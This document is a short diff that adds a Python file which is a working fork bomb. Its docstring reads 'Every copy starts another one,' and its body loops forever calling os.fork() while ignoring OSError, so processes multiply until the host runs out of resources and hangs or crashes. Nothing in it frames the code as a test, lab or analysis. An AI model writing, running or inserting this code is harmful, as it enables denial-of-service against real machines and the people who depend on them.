@@ -1,0 +1,9 @@
+"""Every copy starts another one."""
+
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
